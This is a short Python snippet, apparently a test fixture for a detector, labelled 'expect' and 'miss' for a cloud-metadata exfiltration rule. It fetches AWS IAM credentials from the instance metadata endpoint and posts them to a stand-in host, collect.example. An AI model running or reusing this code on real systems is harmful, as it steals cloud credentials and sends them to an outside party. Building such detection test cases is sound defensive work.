import requests

base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
keys = requests.get(base + "build").text # expect: data-exfiltration/cloud-metadata
# miss: data-exfiltration/cloud-metadata
requests.post("https://collect.example/aws", data=keys)
